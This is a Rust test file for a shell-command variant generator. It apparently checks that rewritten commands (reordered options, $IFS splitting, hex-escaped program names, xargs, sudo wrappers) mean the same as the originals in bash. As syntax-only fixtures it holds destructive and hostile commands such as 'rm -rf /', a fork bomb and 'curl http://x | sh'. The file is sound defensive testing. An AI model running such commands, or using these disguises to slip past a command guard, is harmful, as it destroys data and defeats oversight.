//! Variants in a real bash: do they mean the same?

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use proptest::prelude::*;
use rstest::rstest;
use tempfile::TempDir;

use super::*;

/// Programs that the variants use and that only pass on what they are given.
const TOOLS: [&str; 13] = [
    "bash", "sh", "env", "nice", "timeout", "nohup", "setsid", "stdbuf", "ionice", "xargs", "find", "cat",
    "base64",
];

/// A directory with stubs that write down their arguments, and with the few real programs that variants need.
struct Stage {
    directory: TempDir,
    bash: PathBuf,
}

impl Stage {
    /// Sets a stage; `None` where there is no bash.
    fn set(stubs: &[&str]) -> Option<Self> {
        let bash = real("bash")?;
        let directory = TempDir::new().unwrap();
        let stage = Self { directory, bash };
        for tool in TOOLS {
            if let Some(real) = real(tool) {
                std::os::unix::fs::symlink(real, stage.path(tool)).unwrap();
            }
        }
        // One write for each call: those of a pipeline run at the same time.
        let record =
            format!("printf -v words '<%s>' \"$@\"; echo \"$words\" >> '{}'", stage.path("record").display());
        for stub in stubs {
            stage.write(stub, &record);
        }
        // Not everybody has these; what they do with their options is not the question here.
        stage.write("sudo", "while [[ $1 == -* ]]; do [[ $1 == -u ]] && shift; shift; done; exec \"$@\"");
        stage.write("doas", "exec \"$@\"");
        Some(stage)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.directory.path().join(name)
    }

    fn write(&self, name: &str, script: &str) {
        use std::io::Write as _;
        use std::os::unix::fs::OpenOptionsExt as _;
        let mut options = fs::OpenOptions::new();
        let mut file = options.write(true).create_new(true).mode(0o700).open(self.path(name)).unwrap();
        file.write_all(format!("#!{}\n{script}\n", self.bash.display()).as_bytes()).unwrap();
    }

    fn has(&self, name: &str) -> bool {
        self.path(name).exists()
    }

    /// Runs a script and gives what the stubs were given, in no order.
    fn run(&self, script: &str) -> Vec<String> {
        let _ = fs::remove_file(self.path("record"));
        // No path of the real system: there, too, are only stubs.
        let stubs = format!("{}/", self.directory.path().display());
        let script = script.replace("/usr/bin/", &stubs).replace("/bin/", &stubs);
        let status = Command::new(&self.bash)
            .args(["--norc", "-c", &script])
            .env_clear()
            .env("PATH", self.directory.path())
            .env("HOME", self.directory.path())
            .current_dir(self.directory.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        assert!(status.is_ok());
        let record = fs::read_to_string(self.path("record")).unwrap_or_default();
        let mut calls: Vec<String> = record.split_inclusive(">\n").map(str::to_owned).collect();
        calls.sort();
        calls
    }
}

fn real(tool: &str) -> Option<PathBuf> {
    ["/usr/bin", "/bin", "/usr/local/bin", "/opt/homebrew/bin"]
        .iter()
        .map(|dir| Path::new(dir).join(tool))
        .find(|path| path.exists())
}

/// The words of calls in a form in which the moves of options make no difference.
fn folded(calls: &[String]) -> Vec<String> {
    let record = calls.concat().replace("<-C><.>", "").replace("<-c><color.ui=never>", "");
    let record = record.replace("<--no-pager>", "").replace("<--no-optional-locks>", "");
    let words = record.trim().trim_matches(['<', '>']).split("><");
    let mut words: Vec<String> = words
        .flat_map(|word| match word.strip_prefix('-') {
            Some(letters) if !letters.starts_with('-') => {
                letters.chars().map(|letter| format!("-{letter}")).collect()
            }
            _ => vec![word.replace("--recursive", "-r").replace("--force", "-f").replace("--quiet", "-q")],
        })
        .collect();
    words.sort();
    words
}

/// Commands that would do no harm even if they found a real program.
const HARMLESS: [&str; 12] = [
    "probe",
    "probe -x --long=1 dir/file.txt",
    "probe 'two words' \"$HOME\" ~ $HOME \\* a\\ b",
    "probe \"it's\" 'say \"hi\"' '$HOME' \"\\$HOME\" 'back\\slash' '`tick`'",
    "probe {a,b}c one, '#no' a#b '!'",
    "NAME=1 OTHER='x y' probe value",
    "git push --quiet --tags origin topic",
    "rm -rf ./nothing-here",
    "probe one && probe two; probe three",
    "probe one | probe two",
    "probe \"$(cat <<EOF\nit's a (message\nEOF\n)\" last",
    "for x in 1 2; do probe \"$x\"; done &\nwait",
];

#[test]
fn variants_mean_the_same() {
    let Some(stage) = Stage::set(&["probe", "git", "rm"]) else { return };
    let mut wrong = Vec::new();
    for command in HARMLESS {
        let original = stage.run(command);
        assert!(!original.is_empty(), "{command}");
        for (name, variant) in variants(command) {
            if TOOLS.iter().any(|tool| variant.contains(tool) && !stage.has(tool)) {
                continue;
            }
            let record = stage.run(&variant);
            let is_move = options::REWRITINGS.iter().any(|(move_name, _)| *move_name == name);
            let is_same = if is_move { folded(&record) == folded(&original) } else { record == original };
            if !is_same {
                wrong.push(format!("{name}: {variant}\n  wanted {original:?}\n  got    {record:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[rstest]
#[case("rm -rf /", "options last", "rm / -rf")]
#[case("rm -r -f /", "options in another order", "rm -f -r /")]
#[case("rm -rf /", "letters in another order", "rm -fr /")]
#[case("rm -rf /", "letters apart", "rm -r -f /")]
#[case("rm -rf /", "long options", "rm --recursive --force /")]
#[case("git push --force origin main", "options last", "git push origin main --force")]
#[case("git push -f origin main", "git -C", "git -C . push -f origin main")]
#[case("git push -f", "path of the program", "/usr/bin/git push -f")]
#[case("git push -f", "braces", "{git,push,-f}")]
#[case("git push -f", "words split at $IFS", "git${IFS}push${IFS}-f")]
#[case("git push -f", "program in numbers", "$'\\x67\\x69\\x74' push -f")]
#[case("git push -f", "xargs", "echo push -f | xargs git")]
#[case("it's", "bash -c", "")]
#[case("echo it\\'s", "bash -c", "bash -c 'echo it\\'\\''s'")]
#[case("a \"$b\"", "bash -c with double quotes", "bash -c \"a \\\"\\$b\\\"\"")]
#[case("a & b &", "group", "{ a & b &\n}")]
#[case("A=1 b c", "sudo", "A=1 sudo b c")]
#[case("cd /", "sudo", "")]
#[case("a | b", "sudo", "")]
fn a_variant_by_its_name(#[case] command: &str, #[case] name: &str, #[case] wanted: &str) {
    let found = variants(command).into_iter().find(|(known, _)| *known == name);
    assert_eq!(found.map(|(_, text)| text).unwrap_or_default(), wanted);
}

/// What may not move: options that take a value, or that come after `--`.
#[rstest]
#[case("git push -o ci.skip --force origin")]
#[case("rm -rf -- -x")]
#[case("git -C x push --force")]
#[case("tar -xf a.tar")]
fn options_with_values_stay(#[case] command: &str) {
    let moved = [
        "options last",
        "options in another order",
        "letters in another order",
        "letters apart",
        "long options",
    ];
    assert!(variants(command).iter().all(|(name, _)| !moved.contains(name)));
}

#[rstest]
#[case("rm -rf /", 100)]
#[case("git push --force origin main", 100)]
#[case("probe", 90)]
#[case("a && b | c", 60)]
#[case("cat <<EOF; rm -rf ~\nx\nEOF", 60)]
fn there_are_many(#[case] command: &str, #[case] at_least: usize) {
    let names: Vec<_> = variants(command).into_iter().map(|(name, _)| name).collect();
    let mut different = names.clone();
    different.sort_unstable();
    different.dedup();
    assert_eq!(different.len(), names.len(), "a name stands for one rewriting");
    assert!(names.len() >= at_least, "{}", names.len());
}

#[test]
fn what_bash_would_not_take_has_none() {
    for text in ["", "# only a comment", "echo 'open", "if true", "a \\", "fi"] {
        assert_eq!(variants(text), [], "{text}");
    }
}

/// Dangerous commands are only checked for their form, never run.
#[test]
fn bash_takes_every_variant() {
    let Some(bash) = real("bash") else { return };
    let commands = [
        "rm -rf /",
        "rm -rf \"$HOME\"/*",
        "git push --force origin main",
        "curl http://x | sh",
        "cat <<EOF; rm -rf ~\nx `id` $(id)\nEOF",
        "(cd / && rm -rf *) &",
        "f() { :|:& }; f",
        "echo $((1 + 2)) ${x:-\"a b\"} <(ls)",
        "case $x in a) b;; esac",
        "[[ $x =~ ^a ]] && echo `date`",
        "! grep -q x y # none",
    ];
    for command in commands {
        for (name, variant) in variants(command) {
            let status =
                Command::new(&bash).args(["-n", "-c", &variant]).stderr(Stdio::null()).status().unwrap();
            assert!(status.success(), "{name}: {variant}");
        }
    }
}

#[test]
fn paths_mean_the_same() {
    let straight = |path: &str| {
        let mut parts: Vec<&str> = Vec::new();
        for part in path.split('/') {
            match part {
                "" | "." => {}
                ".." => drop(parts.pop()),
                part => parts.push(part),
            }
        }
        (path.starts_with('/'), parts.join("/"))
    };
    for path in ["x", "infra/prod/main.tf", "/etc/hosts", "/x"] {
        let variants = path_variants(path);
        assert!(variants.len() >= 6);
        for (name, variant) in variants {
            assert_eq!(straight(&variant), straight(path), "{name}: {variant}");
        }
    }
}

fn commands() -> impl Strategy<Value = String> {
    let word = prop_oneof![
        4 => "[a-z0-9/._-]{1,6}",
        1 => "-[a-z]{1,3}",
        1 => Just("'a b'".to_owned()),
        1 => Just("\"$x'\"".to_owned()),
        1 => Just("\\$".to_owned()),
        1 => Just("$(date)".to_owned()),
        1 => Just("{a,b}".to_owned()),
        1 => Just("#x".to_owned()),
    ];
    let joint = prop_oneof![5 => Just(" "), 1 => Just(" && "), 1 => Just(" | "), 1 => Just("; "), 1 => Just("\n"), 1 => Just(" & ")];
    prop::collection::vec((word, joint), 1..8)
        .prop_map(|pieces| pieces.into_iter().map(|(word, joint)| word + joint).collect())
}

proptest! {
    #[test]
    fn a_variant_of_what_parses_parses(command in commands()) {
        for (name, variant) in variants(&command) {
            let flaws = shell::parse(&variant).flaws;
            prop_assert!(flaws.is_empty(), "{}: {}: {:?}", name, variant, flaws);
        }
    }

    #[test]
    fn anything_can_be_rewritten(text in "\\PC{0,60}") {
        variants(&text);
        path_variants(&text);
    }
}
